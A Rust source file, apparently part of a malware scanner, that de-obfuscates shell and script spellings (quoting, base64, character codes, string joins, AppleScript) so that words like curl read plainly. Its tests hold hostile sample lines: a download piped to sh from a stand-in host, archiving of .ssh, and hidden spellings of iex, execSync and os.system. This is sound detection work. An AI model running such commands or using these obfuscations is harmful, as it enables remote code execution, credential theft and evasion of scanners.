//! Shell words after expansion: a command is known by what runs, not by how it is spelled.
//! `c=curl; $c …`, `cu''rl`, `c\url`, `$'\x63url'`, `$(printf 'cu%s' rl)`,
//! `$(echo Y3VybA== | base64 -d)`, `"cu" + "rl"` and `String.fromCharCode(99,117,114,108)` all
//! read as `curl` here.
//!
//! It is a reader's approximation of a shell, not a shell: enough to undo the spellings
//! attackers use to hide a word from a pattern, never running anything. Every step is linear
//! in the line, and a line's expansion is capped at [`MAX_EXPANDED`] bytes.

use super::pattern::{Captures, Pattern};
use base64::Engine;
use std::borrow::Cow;
use std::collections::HashMap;
use std::sync::LazyLock;

/// Longest expansion of one line; past it the rest is left as written.
const MAX_EXPANDED: usize = 16 * 1024;
/// Largest value kept for one variable.
const MAX_VALUE: usize = 1024;
/// Most variables remembered in one unit: enough for any script, bounded for hostile ones.
const MAX_VARS: usize = 4096;

/// Values of the plain shell assignments seen so far (`name=value`, `export name="value"`).
#[derive(Debug, Default)]
pub(crate) struct Vars {
    values: HashMap<String, String>,
}

impl Vars {
    /// Records `name` as holding `value` (already expanded).
    pub fn set(&mut self, name: &str, value: &str) {
        if value.len() > MAX_VALUE
            || (self.values.len() >= MAX_VARS && !self.values.contains_key(name))
        {
            return;
        }
        self.values.insert(name.to_owned(), value.to_owned());
    }

    /// What `name` holds, when known.
    pub fn get(&self, name: &str) -> Option<&str> {
        self.values.get(name).map(String::as_str)
    }
}

/// `line` with variables, quoting, escapes, `printf`/`echo` substitutions, string
/// concatenation and character codes undone.
pub fn expand(line: &str, vars: &Vars) -> String {
    // Each pass runs only on a line holding what it rewrites: most lines hold nothing to
    // expand, and the flow reads every line of every script and data file.
    let mut line = Cow::Borrowed(line);
    rewrite(&mut line, |l| l.contains("$'"), ansi_c_strings);
    rewrite(&mut line, |l| l.contains('$'), |l| substitute_vars(l, vars));
    rewrite(&mut line, |l| l.contains("{{"), |l| interpolations(l, vars));
    rewrite(
        &mut line,
        |l| l.contains("$(") || l.contains('`'),
        command_substitutions,
    );
    rewrite(&mut line, |l| l.contains(['(', '[']), char_codes);
    rewrite(&mut line, |l| l.contains(".join("), array_joins);
    rewrite(&mut line, |l| l.contains('['), bracket_members);
    rewrite(&mut line, |l| l.contains(['\'', '"']), join_literals);
    rewrite(&mut line, |l| l.contains('\\'), unescape);
    let mut out = if line.contains(['\'', '"']) {
        line.chars().filter(|c| !matches!(c, '\'' | '"')).collect()
    } else {
        line.into_owned()
    };
    if out.len() > MAX_EXPANDED {
        let mut cut = MAX_EXPANDED;
        while !out.is_char_boundary(cut) {
            cut -= 1;
        }
        out.truncate(cut);
    }
    out
}

/// One pass of [`expand`], run when the line holds what it rewrites.
fn rewrite(line: &mut Cow<str>, holds: impl Fn(&str) -> bool, pass: impl Fn(&str) -> String) {
    if holds(line) {
        *line = Cow::Owned(pass(line));
    }
}

/// The plain assignment a line makes, if any: `(name, value as written)`; an appending one
/// (`name+=value`) has its name end in `+`.
pub(crate) fn assignment(line: &str) -> Option<(&str, &str)> {
    let line = line.trim_start();
    let line = ["export ", "local ", "readonly ", "declare "]
        .iter()
        .find_map(|p| line.strip_prefix(p))
        .unwrap_or(line)
        .trim_start();
    let line = ["const ", "let ", "var ", "$"]
        .iter()
        .find_map(|p| line.strip_prefix(p))
        .unwrap_or(line);
    let eq = line.find('=')?;
    // `ev["env"] = …` and `cfg.token = …` fill the object they name; make, just and Go
    // assign with `:=` (make also `?=` and `::=`).
    let name = line[..eq].trim_end();
    let name = ["::", ":", "?"]
        .iter()
        .find_map(|op| name.strip_suffix(op))
        .map_or(name, str::trim_end);
    if name.contains(['(', ' ', ',', '{']) {
        return None;
    }
    let name = match name.find(['[', '.']) {
        Some(at) if at > 0 && !name.ends_with('+') => &name[..at],
        _ => name,
    };
    let value = &line[eq + 1..];
    let bare = name.strip_suffix('+').unwrap_or(name);
    let is_name = !bare.is_empty()
        && bare.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
        && !bare.as_bytes()[0].is_ascii_digit();
    (is_name && !value.starts_with('=')).then_some((name, value.trim()))
}

/// Decodes `$'…'` strings (bash's ANSI-C quoting).
fn ansi_c_strings(line: &str) -> String {
    let mut out = String::with_capacity(line.len());
    let mut rest = line;
    while let Some(at) = rest.find("$'") {
        out.push_str(&rest[..at]);
        let body = &rest[at + 2..];
        let end = body.find('\'').unwrap_or(body.len());
        out.push_str(&unescape(&body[..end]));
        rest = body.get(end + 1..).unwrap_or("");
    }
    out.push_str(rest);
    out
}

/// `$name`, `${name}` and `$IFS` replaced by what they hold, when known.
fn substitute_vars(line: &str, vars: &Vars) -> String {
    let mut out = String::with_capacity(line.len());
    let mut rest = line;
    while let Some(at) = rest.find('$') {
        out.push_str(&rest[..at]);
        let after = &rest[at + 1..];
        let (name, used) = match after.strip_prefix('{') {
            Some(inner) => match inner.find('}') {
                Some(close) => (&inner[..close], close + 2),
                None => ("", 0),
            },
            None => {
                let len = after
                    .bytes()
                    .take_while(|b| b.is_ascii_alphanumeric() || *b == b'_')
                    .count();
                (&after[..len], len)
            }
        };
        let bare = name
            .split(['%', '#', ':', '/', '-', '='])
            .next()
            .unwrap_or(name);
        match (bare, vars.get(bare)) {
            ("IFS", _) => out.push(' '),
            (_, Some(value)) if used > 0 => out.push_str(value),
            (_, None) if default_of(name).is_some() => {
                out.push_str(default_of(name).unwrap_or_default());
            }
            _ => {
                out.push('$');
                rest = after;
                continue;
            }
        }
        rest = &after[used..];
    }
    out.push_str(rest);
    out
}

/// A justfile's `{{name}}` (and `{{ name }}`) replaced by what the variable holds, when known.
fn interpolations(line: &str, vars: &Vars) -> String {
    let mut out = String::with_capacity(line.len());
    let mut rest = line;
    while let Some(open) = rest.find("{{") {
        out.push_str(&rest[..open]);
        let inner = &rest[open + 2..];
        let value = inner
            .find("}}")
            .and_then(|close| Some((vars.get(inner[..close].trim())?, close)));
        match value {
            Some((value, close)) => {
                out.push_str(value);
                rest = &inner[close + 2..];
            }
            None => {
                out.push_str("{{");
                rest = inner;
            }
        }
    }
    out.push_str(rest);
    out
}

/// The literal default of `${name:-default}` (or `-`, `:=`, `=`) whose variable is unset: what
/// runs when nothing sets it (`".${KEYSTORE:-ssh}"` is `.ssh`).
fn default_of(braced: &str) -> Option<&str> {
    let at = braced.find(['-', '='])?;
    let name = braced[..at].strip_suffix(':').unwrap_or(&braced[..at]);
    let default = &braced[at + 1..];
    let plain =
        |s: &str| !s.is_empty() && s.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_');
    (plain(name) && !default.contains(['$', '`'])).then_some(default)
}

/// `$(printf …)`, `$(echo …)` and their backquoted forms, optionally piped through a decoder
/// (`base64 -d`, `rev`, `xxd -r -p`, a rot13 `tr`), replaced by their output.
fn command_substitutions(line: &str) -> String {
    let mut out = String::with_capacity(line.len());
    let mut rest = line;
    loop {
        let dollar = rest.find("$(").map(|i| (i, 2, ')'));
        let tick = rest.find('`').map(|i| (i, 1, '`'));
        let Some((at, open, close)) = [dollar, tick].into_iter().flatten().min() else {
            break;
        };
        out.push_str(&rest[..at]);
        let body = &rest[at + open..];
        let Some(end) = body.find(close) else {
            out.push_str(&rest[at..]);
            return out;
        };
        match evaluate(&body[..end]) {
            Some(value) => out.push_str(&value),
            None => out.push_str(&rest[at..at + open + end + 1]),
        }
        rest = &body[end + 1..];
    }
    out.push_str(rest);
    out
}

/// The output of a pipeline of `echo`/`printf` and decoders, when that is all it is.
fn evaluate(pipeline: &str) -> Option<String> {
    let mut stages = pipeline.split('|').map(str::trim);
    let mut value = literal_output(stages.next()?)?;
    for stage in stages {
        value = decode_stage(stage, &value)?;
    }
    Some(value)
}

fn literal_output(command: &str) -> Option<String> {
    let words = split_words(command);
    let (first, args) = words.split_first()?;
    let args: Vec<&str> = args
        .iter()
        .map(String::as_str)
        .filter(|a| !matches!(*a, "-n" | "-e" | "-ne" | "-en"))
        .collect();
    match first.as_str() {
        "echo" => Some(unescape(&args.join(" "))),
        "printf" => {
            let (format, values) = args.split_first()?;
            let mut values = values.iter();
            let mut result = String::new();
            for (i, part) in format.split("%s").enumerate() {
                if i > 0 {
                    result.push_str(values.next().copied().unwrap_or(""));
                }
                result.push_str(part);
            }
            Some(unescape(&result))
        }
        _ => None,
    }
}

/// What a decoding command makes of `input`.
fn decode_stage(stage: &str, input: &str) -> Option<String> {
    let words = split_words(stage);
    let words: Vec<&str> = words.iter().map(String::as_str).collect();
    match words.as_slice() {
        ["base64", flag] | ["base64", flag, ..] if matches!(*flag, "-d" | "--decode" | "-D") => {
            let clean: String = input.split_whitespace().collect();
            let bytes = base64::engine::general_purpose::STANDARD
                .decode(clean.as_bytes())
                .ok()?;
            Some(String::from_utf8_lossy(&bytes).into_owned())
        }
        ["rev"] => Some(input.chars().rev().collect()),
        ["xxd", "-r", "-p"] | ["xxd", "-p", "-r"] | ["xxd", "-rp"] => hex(input),
        ["tr", from, to] if from.contains("A-Za-z") || from.contains("a-zA-Z") => {
            to.starts_with("N-Z").then(|| rot13(input))
        }
        _ => None,
    }
}

/// Splits a simple command into words, honouring single and double quotes.
fn split_words(command: &str) -> Vec<String> {
    let mut words = Vec::new();
    let mut word = String::new();
    let mut quote = None;
    let mut started = false;
    for c in command.chars() {
        match (quote, c) {
            (None, '\'' | '"') => {
                quote = Some(c);
                started = true;
            }
            (Some(q), _) if c == q => quote = None,
            (None, c) if c.is_whitespace() => {
                if started {
                    words.push(std::mem::take(&mut word));
                    started = false;
                }
            }
            _ => {
                word.push(c);
                started = true;
            }
        }
    }
    if started {
        words.push(word);
    }
    words
}

/// `String.fromCharCode(99,117)`, `chr(99)+chr(117)`, `[char]99+[char]117`, PowerShell's
/// `[char[]](99,117)` and `bytes([99,117])` written out as the text they make.
fn char_codes(line: &str) -> String {
    let lower = line.to_ascii_lowercase();
    if !(lower.contains("fromcharcode(")
        || lower.contains("chr(")
        || lower.contains("[char]")
        || lower.contains("[char[]]")
        || lower.contains("bytes(["))
    {
        return line.to_owned();
    }
    let mut out = String::with_capacity(line.len());
    let mut i = 0;
    while i < line.len() {
        if let Some((text, used)) = codes_at(&lower[i..]) {
            out.push_str(&text);
            i += used;
            continue;
        }
        let c = line[i..].chars().next().expect("in bounds");
        out.push(c);
        i += c.len_utf8();
    }
    out
}

/// The text a character-code expression starting at `rest` makes, and its length.
fn codes_at(rest: &str) -> Option<(String, usize)> {
    for open in [
        "string.fromcharcode(",
        "fromcharcode(",
        "bytes([",
        "[char[]](",
        "[char[]]@(",
        "[char[]] (",
    ] {
        if let Some(args) = rest.strip_prefix(open) {
            // Bounded, so a line of unclosed calls costs no more than its length.
            let window = &args.as_bytes()[..args.len().min(MAX_VALUE)];
            let close = window.iter().position(|b| matches!(b, b')' | b']'))?;
            let text = numbers_to_text(args[..close].split(','))?;
            let tail = usize::from(open == "bytes([") + 1;
            return Some((text, open.len() + close + tail));
        }
    }
    for (prefix, suffix) in [("chr(", ")"), ("[char]", "")] {
        if !rest.starts_with(prefix) {
            continue;
        }
        let mut text = String::new();
        let mut used = 0;
        let mut cursor = rest;
        while let Some(after) = cursor.strip_prefix(prefix) {
            let digits = after.bytes().take_while(u8::is_ascii_digit).count();
            let code: u32 = after[..digits].parse().ok()?;
            let after = after[digits..].strip_prefix(suffix)?;
            text.push(char::from_u32(code)?);
            let join = after.len() - after.trim_start_matches([' ', '+', ',']).len();
            used += prefix.len() + digits + suffix.len() + join;
            cursor = &after[join..];
        }
        return (!text.is_empty()).then_some((text, used));
    }
    None
}

fn numbers_to_text<'a>(numbers: impl Iterator<Item = &'a str>) -> Option<String> {
    numbers
        .map(|n| {
            let n = n.trim();
            let code = match n.strip_prefix("0x") {
                Some(h) => u32::from_str_radix(h, 16).ok()?,
                None => n.parse().ok()?,
            };
            char::from_u32(code)
        })
        .collect()
}

/// An AppleScript line as the shell reads what it runs: `set name to "a" & b` becomes the
/// assignment `name=a${b}`, and `do shell script "curl " & url & " | sh"` the command
/// `curl ${url} | sh`. AppleScript's `&` joins strings, where a shell would read it as
/// "run in the background" and lose the pipeline. `None` for any other line.
pub(crate) fn applescript_as_shell(line: &str) -> Option<String> {
    let code = line.trim_start();
    if let Some(at) = code.find("do shell script ") {
        return Some(applescript_string(&code[at + "do shell script ".len()..]));
    }
    if let Some(rest) = code.strip_prefix("set ") {
        let (name, value) = rest.split_once(" to ")?;
        let name = name.trim();
        let is_name = !name.is_empty()
            && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
            && !name.as_bytes()[0].is_ascii_digit();
        return is_name.then(|| format!("{name}={}", applescript_string(value)));
    }
    None
}

/// The text an AppleScript string expression makes: literals joined by `&`, names written
/// as shell expansions, `quoted form of x` as `'${x}'`.
fn applescript_string(expression: &str) -> String {
    let mut out = String::new();
    let mut rest = expression.trim();
    while !rest.is_empty() {
        let (part, after) = if let Some(body) = rest.strip_prefix('"') {
            let end = closing_quote(body);
            out.push_str(&body[..end].replace("\\\"", "\"").replace("\\\\", "\\"));
            ("", body.get(end + 1..).unwrap_or(""))
        } else {
            rest.split_once('&').unwrap_or((rest, ""))
        };
        let part = part.trim();
        if let Some(value) = part.strip_prefix("quoted form of ") {
            let name = value.trim().trim_start_matches('(');
            let name = name.split([' ', ')']).next().unwrap_or(name);
            out.push_str(&format!("'${{{name}}}'"));
        } else if !part.is_empty() && part.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_') {
            out.push_str(&format!("${{{part}}}"));
        } else {
            out.push_str(part);
        }
        rest = after.trim_start();
        rest = rest.strip_prefix('&').unwrap_or(rest).trim_start();
    }
    out
}

/// Where the string literal that `body` continues ends: the first `"` no backslash escapes.
fn closing_quote(body: &str) -> usize {
    let bytes = body.as_bytes();
    let mut i = 0;
    while i < bytes.len() {
        match bytes[i] {
            b'\\' => i += 2,
            b'"' => return i,
            _ => i += 1,
        }
    }
    body.len()
}

/// A list of literals joined into one: `['child', 'process'].join('_')`, `"".join(["cu", "rl"])`.
static ARRAY_JOIN: LazyLock<Pattern> = LazyLock::new(|| {
    const ITEMS: &str = r#"((?:'[^'\n]*'|"[^"\n]*")(?:[[:space:]]*,[[:space:]]*(?:'[^'\n]*'|"[^"\n]*"))*)[[:space:]]*,?"#;
    const SEP: &str = r#"(?:'([^'\n]*)'|"([^"\n]*)")"#;
    Pattern::new(&format!(
        r"\[[[:space:]]*{ITEMS}[[:space:]]*\][[:space:]]*\.join\([[:space:]]*{SEP}[[:space:]]*\)|{SEP}[[:space:]]*\.join\([[:space:]]*\[[[:space:]]*{ITEMS}[[:space:]]*\][[:space:]]*\)"
    ))
    .expect("a valid join pattern")
});

/// One literal of an [`ARRAY_JOIN`] list.
static LITERAL: LazyLock<Pattern> =
    LazyLock::new(|| Pattern::new(r#"'([^'\n]*)'|"([^"\n]*)""#).expect("a valid literal pattern"));

/// Lists of literals joined (JavaScript's `[…].join(sep)`, Python's `sep.join([…])`) written
/// as the one literal they make.
fn array_joins(line: &str) -> String {
    if !line.contains(".join(") {
        return line.to_owned();
    }
    replace_matches(line, &ARRAY_JOIN, |caps| {
        let items = caps.get(1).or_else(|| caps.get(6))?;
        let sep = [2, 3, 4, 5]
            .into_iter()
            .find_map(|g| caps.get(g))
            .map_or("", |m| m.as_str());
        let parts: Vec<&str> = LITERAL
            .captures_iter(items.as_str())
            .filter_map(|c| c.get(1).or_else(|| c.get(2)).map(|m| m.as_str()))
            .collect();
        Some(format!("\"{}\"", parts.join(sep)))
    })
}

/// A member named by a literal in brackets (`cp['execSync'](…)`, `os["system"]`).
static BRACKET_MEMBER: LazyLock<Pattern> = LazyLock::new(|| {
    Pattern::new(
        r#"\[[[:space:]]*(?:'([A-Za-z_$][[:word:]$]*)'|"([A-Za-z_$][[:word:]$]*)")[[:space:]]*\]"#,
    )
    .expect("a valid member pattern")
});

/// Members named in brackets written with a dot, as a call through them reads.
fn bracket_members(line: &str) -> String {
    if !line.contains('[') {
        return line.to_owned();
    }
    replace_matches(line, &BRACKET_MEMBER, |caps| {
        let (whole, name) = (caps.get(0)?, caps.get(1).or_else(|| caps.get(2))?);
        // `x = ['a']` is a list, not a member: a member follows a name or a closing bracket.
        let before = line[..whole.start()].chars().next_back();
        before
            .is_some_and(|c| c.is_alphanumeric() || matches!(c, '_' | '$' | ')' | ']'))
            .then(|| format!(".{}", name.as_str()))
    })
}

/// `line` with each match of `pattern` for which `replace` has a text written as that text.
fn replace_matches(
    line: &str,
    pattern: &Pattern,
    replace: impl Fn(&Captures) -> Option<String>,
) -> String {
    let mut out = String::with_capacity(line.len());
    let mut copied = 0;
    for caps in pattern.captures_iter(line) {
        let (Some(whole), Some(text)) = (caps.get(0), replace(&caps)) else {
            continue;
        };
        out.push_str(&line[copied..whole.start()]);
        out.push_str(&text);
        copied = whole.end();
    }
    out.push_str(&line[copied..]);
    out
}

/// Compiles the patterns of this file now (see [`super::preload`]).
pub(super) fn compile() {
    for pattern in [&ARRAY_JOIN, &LITERAL, &BRACKET_MEMBER] {
        LazyLock::force(pattern);
    }
}

/// `"cu" + "rl"`, `'cu' . 'rl'` (Perl, PHP) and `'cu'+'rl'` joined into one literal: a
/// closing quote, the operator and the next opening quote are dropped.
fn join_literals(line: &str) -> String {
    let bytes = line.as_bytes();
    let mut out = String::with_capacity(line.len());
    let mut copied = 0;
    let mut i = 0;
    while i < bytes.len() {
        if matches!(bytes[i], b'\'' | b'"') {
            let mut j = i + 1;
            while j < bytes.len() && matches!(bytes[j], b' ' | b'\t') {
                j += 1;
            }
            if j < bytes.len() && matches!(bytes[j], b'+' | b'.') {
                let mut k = j + 1;
                while k < bytes.len() && matches!(bytes[k], b' ' | b'\t') {
                    k += 1;
                }
                if k < bytes.len() && matches!(bytes[k], b'\'' | b'"') {
                    out.push_str(&line[copied..i]);
                    copied = k + 1;
                    i = k + 1;
                    continue;
                }
            }
        }
        i += 1;
    }
    out.push_str(&line[copied..]);
    out
}

/// Backslash escapes undone: `\xHH`, `\uHHHH`, `\NNN` (octal), and a backslash before any
/// other letter (`c\url` is `curl` to a shell).
fn unescape(text: &str) -> String {
    if !text.contains('\\') {
        return text.to_owned();
    }
    let mut out = String::with_capacity(text.len());
    let mut chars = text.char_indices().peekable();
    while let Some((at, c)) = chars.next() {
        if c != '\\' {
            out.push(c);
            continue;
        }
        let rest = &text[at + 1..];
        let (decoded, used) = escape_at(rest);
        match decoded {
            Some(d) => out.push(d),
            None => continue,
        }
        for _ in 0..used {
            chars.next();
        }
    }
    out
}

/// The character an escape after a backslash stands for and how many characters it took;
/// `None` drops the backslash.
fn escape_at(rest: &str) -> (Option<char>, usize) {
    let hex_escape = |len: usize, skip: usize| {
        let digits = rest.get(skip..skip + len)?;
        let code = u32::from_str_radix(digits, 16).ok()?;
        char::from_u32(code).map(|c| (Some(c), skip + len))
    };
    if let Some(found) = match rest.as_bytes().first() {
        Some(b'x') => hex_escape(2, 1),
        Some(b'u') => hex_escape(4, 1),
        Some(b'0'..=b'7') => {
            let digits = rest
                .bytes()
                .take(3)
                .take_while(|b| (b'0'..=b'7').contains(b));
            let n = digits.count();
            let code = u32::from_str_radix(&rest[..n], 8).ok();
            code.and_then(char::from_u32).map(|c| (Some(c), n))
        }
        _ => None,
    } {
        return found;
    }
    match rest.chars().next() {
        Some(c) if c.is_ascii_alphanumeric() || c == '\\' => (Some(c), 1),
        _ => (None, 0),
    }
}

fn hex(input: &str) -> Option<String> {
    let clean: Vec<u8> = input.bytes().filter(u8::is_ascii_hexdigit).collect();
    let bytes: Option<Vec<u8>> = clean
        .chunks(2)
        .map(|pair| u8::from_str_radix(std::str::from_utf8(pair).ok()?, 16).ok())
        .collect();
    Some(String::from_utf8_lossy(&bytes?).into_owned())
}

fn rot13(input: &str) -> String {
    input
        .chars()
        .map(|c| match c {
            'a'..='z' => (((c as u8 - b'a') + 13) % 26 + b'a') as char,
            'A'..='Z' => (((c as u8 - b'A') + 13) % 26 + b'A') as char,
            _ => c,
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn plain(line: &str) -> String {
        expand(line, &Vars::default())
    }

    #[test]
    fn spellings_of_curl_read_as_curl() {
        assert_eq!(plain("cu''rl -s x | sh"), "curl -s x | sh");
        assert_eq!(plain(r"c\url -s x"), "curl -s x");
        assert_eq!(plain(r"$'\x63\x75rl' -s x"), "curl -s x");
        assert_eq!(plain("$(printf 'cu%s' rl) -s x"), "curl -s x");
        assert_eq!(plain("${DL:-curl} -s x"), "curl -s x");
        assert_eq!(plain("tar cz \".${K:=ssh}\""), "tar cz .ssh");
        assert_eq!(plain("echo ${x#-a} ${y:0:-1}"), "echo ${x#-a} ${y:0:-1}");
        assert_eq!(plain("$(echo Y3VybA== | base64 -d) -s x"), "curl -s x");
        assert_eq!(plain("`echo lruc | rev` -s x"), "curl -s x");
        assert_eq!(plain("x = \"cu\" + \"rl\""), "x = curl");
        assert_eq!(plain("String.fromCharCode(99,117,114,108)"), "curl");
        assert_eq!(plain("chr(99)+chr(117)+chr(114)+chr(108)"), "curl");
        assert_eq!(plain("-join [char[]](105, 101, 120)"), "-join iex");
        assert_eq!(plain("-join [char[]]@(0x69,0x65,0x78)"), "-join iex");
        assert_eq!(plain("curl${IFS}-s${IFS}x"), "curl -s x");
        assert_eq!(
            plain("require(['child', 'process'].join('_'))"),
            "require(child_process)"
        );
        assert_eq!(plain("cp[['exec', 'Sync'].join('')](x)"), "cp.execSync(x)");
        assert_eq!(
            plain("os.__dict__[''.join(['sys', 'tem'])](c)"),
            "os.__dict__.system(c)"
        );
        assert_eq!(plain("pick(['a', 'b'])"), "pick([a, b])");
    }

    #[test]
    fn applescript_reads_as_the_shell_command_it_runs() {
        assert_eq!(
            applescript_as_shell(r#"	set p1 to "https://" & "dock-lay" & "outs.example""#),
            Some("p1=https://dock-layouts.example".to_owned())
        );
        assert_eq!(
            applescript_as_shell(
                r#"do shell script "/usr/bin/curl -fsSL " & p1 & p2 & " | /bin/sh >/dev/null 2>&1 &""#
            ),
            Some("/usr/bin/curl -fsSL ${p1}${p2} | /bin/sh >/dev/null 2>&1 &".to_owned())
        );
        assert_eq!(
            applescript_as_shell(r#"do shell script "test -e " & quoted form of (a as text)"#),
            Some("test -e '${a}'".to_owned())
        );
        assert_eq!(
            applescript_as_shell(r#"set x to paragraphs of (do shell script "ls \"a b\"")"#),
            Some("ls \"a b\")".to_owned())
        );
        assert_eq!(
            applescript_as_shell("set n to count of argv"),
            Some("n=count of argv".to_owned())
        );
        assert_eq!(applescript_as_shell("if mode is \"x\" then"), None);
    }

    #[test]
    fn variables_hold_what_was_assigned() {
        let mut vars = Vars::default();
        let (name, value) = assignment("c=\"curl\"").expect("an assignment");
        vars.set(name, &expand(value, &vars));
        assert_eq!(
            expand("$c -s http://x | ${c} -d", &vars),
            "curl -s http://x | curl -d"
        );
        assert_eq!(expand("$unknown", &vars), "$unknown");
        assert!(assignment("if [ $a == b ]").is_none());
        assert_eq!(
            assignment("export TOKEN=$(cat x)"),
            Some(("TOKEN", "$(cat x)"))
        );
        assert_eq!(
            assignment("const data = fs.readFileSync(p)").map(|a| a.0),
            Some("data")
        );
        // make's and just's assignments, and just's interpolation.
        let (name, value) = assignment("api := \"https://x.example\"").expect("an assignment");
        vars.set(name, &expand(value, &vars));
        assert_eq!(assignment("CC ?= gcc"), Some(("CC", "gcc")));
        assert_eq!(
            expand("curl '{{api}}' {{ c }} {{other}}", &vars),
            "curl https://x.example curl {{other}}"
        );
        assert!(assignment("if (n := len(a)) > 10:").is_none());
    }
}
